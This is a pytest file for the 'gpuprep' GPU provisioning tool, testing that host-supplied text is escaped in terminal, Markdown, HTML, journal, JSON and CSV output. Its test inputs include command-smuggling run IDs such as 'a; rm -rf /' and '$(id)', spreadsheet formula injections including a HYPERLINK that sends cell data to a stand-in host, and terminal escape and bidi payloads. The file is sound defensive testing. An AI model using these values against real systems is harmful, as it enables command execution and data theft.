"""What a host says does nothing where it is shown: terminal, Markdown, browser, CI, Prometheus, sheet, journal."""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import re
import shlex
import sqlite3
from datetime import datetime, timezone
from pathlib import Path

import hostilerecords
import pytest
from commandline import Shell, own_folders
from hostilerecords import PAYLOADS, spoiled
from nightmetrics import drifted
from parsedformats import _no_constant, coloured, complained, listed, parsed, progress, shown
from validations_for_tests import h200, t4

from gpuprep import errors, records, reports
from gpuprep.cli import run_command
from gpuprep.nightly import journal, last, notify
from gpuprep.provisioning import ansible_events
from gpuprep.store import Store

# All that a terminal may get: letters that show, newlines, and the colours of our own pages where there are any.
OURS = re.compile(r"\x1b\[(?:0|1|3[0-7])m")


def harmless(text: str) -> str:
    letters = text.replace("\n", "")
    assert letters.isprintable(), [letter for letter in letters if not letter.isprintable()][:5]
    return text


def _spoiled(record: records.RunRecord, payload: str) -> records.RunRecord:
    made: records.RunRecord = spoiled(dataclasses.replace(record, error=None), payload)
    return made


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_record_full_of_it(name: str) -> None:
    for record in (h200(), t4(), drifted("gpu-03")):
        spoilt = _spoiled(record, PAYLOADS[name])
        for style in reports.FORMATS:
            text = reports.render(spoilt, style)
            parsed(text, style)
            if style != "html":  # whose table of shapes has breaks of its own
                harmless(text)


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_fleet_with_it(name: str) -> None:
    bad = dataclasses.replace(_spoiled(drifted("gpu-03"), PAYLOADS[name]), error=None)
    failed = dataclasses.replace(bad, host="gpu-04", verdict=None, error=f"gpu-04: {PAYLOADS[name]}\n  | x")
    for style in reports.RECORDS:
        text = reports.render_fleet([drifted("gpu-01", (), records.Status.PASS), bad, failed], style, 1)
        parsed(text, style)
        harmless(text)


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_terminal_with_colours_gets_ours_alone(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    bad = _spoiled(drifted("gpu-03"), PAYLOADS[name])
    shown([drifted("gpu-01", (), records.Status.PASS), bad], fleet="text")
    shown([bad])
    coloured(bad)
    said = capsys.readouterr()
    harmless(OURS.sub("", said.out))
    harmless(said.err)


def test_a_forged_colour_is_not_painted(capsys: pytest.CaptureFixture[str]) -> None:
    bad = _spoiled(drifted("gpu-03"), PAYLOADS["paints as a pass"])
    shown([bad], fleet="text")
    assert "\x1b" not in capsys.readouterr().out


# ---------------------------------------------------------------- Markdown

MARKDOWN = {
    "mention": ("@all", r"(?<!>)@all|@all\b"),
    "mention in brackets": ("(@all)", r"@all"),
    "address": ("me@evil.example", r"@evil"),
    "issue": ("#1", r"#1"),
    "issue of another project": ("a/b#1", r"#1"),
    "issue of GitHub's": ("closes GH-12", r"GH-12"),
    "merge request": ("!7", r"!7"),
    "emoji": (":white_check_mark:", r":white_check_mark:|:white\\_check\\_mark:"),
    "www": ("www.evil.example", r"www\.evil"),
    "WWW": ("WWW.evil.example", r"(?i)www\.evil"),
    "formula": ("$\\color{green}{PASS}$", r"(?<!\\)\$"),
    "comment": ("<!-- rest", r"<!-- rest"),
    "bidi": ("\u202eSSAP", "\u202e"),
    "C1": ("\x9b2J", "\x9b"),
    "escape": ("\x1b[2J", "\x1b"),
}


@pytest.mark.parametrize("name", MARKDOWN)
def test_markdown_makes_nothing_of_it(name: str) -> None:
    said, made = MARKDOWN[name]
    finding = dataclasses.replace(hostilerecords.BAD, actual=said, reason=said)
    for text in (reports.render(hostilerecords.found(finding), "markdown"),
                 reports.render_fleet([hostilerecords.found(finding)], "markdown", 1)):  # fmt: skip
        assert not re.search(made, text), text


@pytest.mark.parametrize("line", ["- PASS", "+ PASS", "1. PASS", "=====", "12) PASS"])
def test_a_line_of_an_error_is_no_list_and_no_heading(line: str) -> None:
    record = hostilerecords.of(verdict=None, findings=(), error=f"evil\n{line}")
    text = reports.render_fleet([record], "markdown", 3)
    assert not re.search(r"^(?:[-+] |\d+[.)]|=+$)", text, re.MULTILINE), text


def test_a_mention_can_still_be_read() -> None:
    finding = dataclasses.replace(hostilerecords.BAD, actual="a @ b, 0000:3b:00.0")
    assert "a \\@ b, 0000\\:3b\\:00.0" in reports.render(hostilerecords.found(finding), "markdown")


# ---------------------------------------------------------------- HTML


def test_no_word_of_a_host_passes_for_a_verdict() -> None:
    case = {"id": "1", "title": "x", "outcome": "PASS", "seconds": 1.0, "outputs": []}
    record = hostilerecords.measured({"cases": [case]}, "transcode")
    page = reports.render(dataclasses.replace(record, verdict=None, findings=()), "html")
    assert 'class="pill PASS"' not in page
    assert not re.search(r"1 +PASS", reports.render(dataclasses.replace(record, verdict=None, findings=()), "text"))


@pytest.mark.parametrize("run_id", ["../../etc/x", "a; rm -rf /", "$(id)", "-rf", "--output=/etc/x", "`id`", "|x"])
def test_the_command_beside_a_host_is_one_that_may_be_pasted(run_id: str) -> None:
    page = reports.render_fleet([hostilerecords.of(run_id=run_id)], "html", 1)
    (line,) = set(re.findall(r"gpuprep report [^<]*--output report\.html[^<]*", html.unescape(page)))
    words = shlex.split(line)
    assert words[words.index("--output") + 1] == "report.html"
    place = next(place for place, word in enumerate(words) if word == " ".join(run_id.split()))
    assert not run_id.startswith("-") or words[place - 1] == "--"


@pytest.mark.parametrize("run_id", ["a; rm -rf /", "$(id)", "-rf", "`id`", "x\ngpuprep"])
def test_so_is_the_one_behind_an_error_and_behind_a_page(run_id: str, capsys: pytest.CaptureFixture[str]) -> None:
    complained([hostilerecords.of(run_id=run_id, error="evil: lost")])
    line = capsys.readouterr().err.splitlines()[-1].partition("report: ")[2]
    assert " ".join(run_id.split()) in shlex.split(line)
    assert shlex.split(line)[:2] == ["gpuprep", "report"]
    shown([hostilerecords.of(run_id=run_id)])
    (line,) = [line[8:] for line in capsys.readouterr().out.splitlines() if line.startswith("Report: ")]
    assert " ".join(run_id.split()) in shlex.split(line)


# ---------------------------------------------------------------- progress, errors, lists

EVENTS = {
    "stage": lambda said: ansible_events.Progress("stage", "", "", said, 0.0),
    "note": lambda said: ansible_events.Progress("note", "", "", said, 0.0),
    "waiting": lambda said: ansible_events.Progress("waiting", "gpu_driver", "Build", said, 0.0),
    "diff": lambda said: ansible_events.Progress("diff", "gpu_driver", "Write", said, 0.0),
    "task": lambda said: ansible_events.Progress("task_end", said, said, "changed", 0.0),
    "outcome": lambda said: ansible_events.Progress("task_end", "gpu_driver", "x", said, 0.0),
}


@pytest.mark.parametrize("name", PAYLOADS)
def test_progress_shows_it_on_lines_of_its_host(name: str) -> None:
    for kind in EVENTS:
        stream = io.StringIO()
        with progress(stream, "evil", "b") as console:
            console.progress("evil", EVENTS["waiting"]("x"))
            console.progress("evil", EVENTS[kind](PAYLOADS[name]))
            console.say(PAYLOADS[name].replace("\n", " "))
        *lines, _ = harmless(stream.getvalue()).splitlines()
        assert all("evil | " in line for line in lines), (kind, lines)


@pytest.mark.parametrize("name", PAYLOADS)
def test_errors_show_it(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    complained([hostilerecords.of(error=f"evil: {PAYLOADS[name]}")])
    run_command.show(errors.HostError("x", log=f"/tmp/{PAYLOADS[name]}".replace("\n", "")))
    said = capsys.readouterr().err
    harmless(said)
    assert all(line.startswith(("Error: ", "  ")) for line in said.splitlines())


@pytest.fixture
def shell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Shell:
    own_folders(monkeypatch, tmp_path)
    return Shell(capsys)


@pytest.mark.parametrize("name", PAYLOADS)
def test_lists_show_it(name: str, shell: Shell) -> None:
    said = PAYLOADS[name]
    store = Store.open(None)
    for number in range(2):
        made = dataclasses.replace(drifted("x"), run_id=f"r{number}", host=said, command=said, error=said)
        store.append(dataclasses.replace(made, batch_id=said))
    store.close()
    code, out, _ = shell("history", "list")
    assert code == 0
    assert len(harmless(out).splitlines()) == 3
    code, out, _ = shell("history", "list", "--json")
    assert code == 0
    parsed(harmless(out), "json")
    assert len(listed([(said, "x"), ("a" * 100_000, "y")])) == 2
    assert max(map(len, listed([("a" * 100_000, "y")]))) < 1000


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity"])
def test_no_document_has_a_number_that_is_none(value: str, shell: Shell, tmp_path: Path) -> None:
    record = hostilerecords.measured({"gpus": [], "x": float(value)})
    for text in (reports.render(record, "json"), reports.render_fleet([record, record], "json", 0)):
        json.loads(text, parse_constant=_no_constant)
    store = Store.open(None)
    store.append(hostilerecords.measured({"gpus": [], "x": 12345.5}))
    store.close()
    (file,) = tmp_path.rglob("history.db")
    with sqlite3.connect(file) as old:  # as an older gpuprep stored it
        assert old.execute("UPDATE runs SET record = replace(record, '12345.5', ?)", (value,)).rowcount == 1
    old.close()
    code, out, _ = shell("history", "export", "--format", "jsonl")
    assert code == 0
    (line,) = out.splitlines()
    assert "unparsable" in line
    json.loads(line, parse_constant=_no_constant)


@pytest.mark.parametrize("name", PAYLOADS)
def test_the_journal_and_the_host_s_own_words(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    stream = io.StringIO()
    journal.say(journal.ERROR, f"Error: {PAYLOADS[name]}", stream)
    assert len(harmless(stream.getvalue()).splitlines()) == 1
    record = dataclasses.replace(_spoiled(drifted("gpu-03"), PAYLOADS[name]), run_id="20261121-023000-0aa")
    (tmp_path / "last.json").write_text(records.to_json(record))
    last.main(tmp_path, now=datetime(2026, 11, 21, 3, tzinfo=timezone.utc))
    said = capsys.readouterr()
    harmless(said.out)
    harmless(said.err)
    told = json.dumps(notify.document(record, ""), ensure_ascii=False)
    harmless(told.replace("\\n", ""))


def test_a_journal_line_has_an_end() -> None:
    stream = io.StringIO()
    journal.say(journal.ERROR, "x" * 1_000_000, stream)
    assert len(stream.getvalue()) < 5000


# ---------------------------------------------------------------- spreadsheets

CELLS = [
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1",
    "\uff1d1+1", "\uff0bx", '=HYPERLINK("http://h/?"&A1,"PASS")', "\x1b=1",
]  # fmt: skip


@pytest.mark.parametrize("cell", CELLS)
def test_no_cell_is_a_formula(cell: str, shell: Shell) -> None:
    bad = hostilerecords.found(dataclasses.replace(hostilerecords.BAD, actual=cell))
    store = Store.open(None)
    store.append(dataclasses.replace(bad, host=cell, exit_code=-2))
    store.close()
    code, exported, _ = shell("history", "export", "--format", "csv")
    assert code == 0
    (run,) = csv.DictReader(io.StringIO(exported))
    assert run["exit_code"] == "-2", "numbers stay numbers"
    report = reports.render(bad, "csv")
    (found,) = [row["found"] for row in csv.DictReader(io.StringIO(report)) if row["name"] == "persistence_mode"]
    harmless((exported + report).replace("\t", ""))
    for read in (run["host"], found):
        for part in re.split(r"[;\t\n\r]", read):
            assert not re.match(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", part), part
